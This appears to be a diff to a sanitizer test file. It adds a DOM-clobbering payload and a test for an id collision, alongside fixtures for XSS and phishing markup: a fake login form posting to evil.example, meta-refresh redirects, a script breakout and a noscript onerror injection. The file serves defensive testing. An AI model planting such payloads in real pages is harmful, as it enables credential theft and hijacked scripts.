@@ -34,7 +34,7 @@ const payloads = Object.entries({
     '<form action="//evil.example"><input name=password><button formaction=javascript:alert(1)>Log in</button></form>',
   head: '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example"><title>Evil</title>',
   clobber:
-    '<a id=page-data name=body href=#>a</a><img name=getElementById><form id=location><input name=children>',
+    '<a id=page-data name=body href=#page-data>a</a><img name=getElementById id=posts><form id=location><input name=children></form><a href=#posts>b</a><a href=#location>c</a><a href=#children>d</a><a href=#getElementById>e</a>',
   pageData:
     '</script><script type="application/json" id="page-data">{}</script><div data-item="other" data-content data-await>',
   noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
@@ -196,6 +196,7 @@ test.each([
   ['a handler', '<img src=x onerror=alert(1)>', /handler onerror|inline event handler/],
   ['a style', `<div style="${cover}">x</div>`, /attribute style/],
   ['a cover', '<div class="TopNavigation_bar">x</div>', /position (fixed|sticky)/],
+  ['an id of the site', '<p id="page">x</p>', /an id page/],
   ['a request', '<img src="http://evil.example/a.png">', /evil\.example/],
   ['a frame', '<iframe src="https://evil.example"></iframe>', /evil\.example/],
 ])('the checks detect %s that is not removed', (_, html, expected) =>
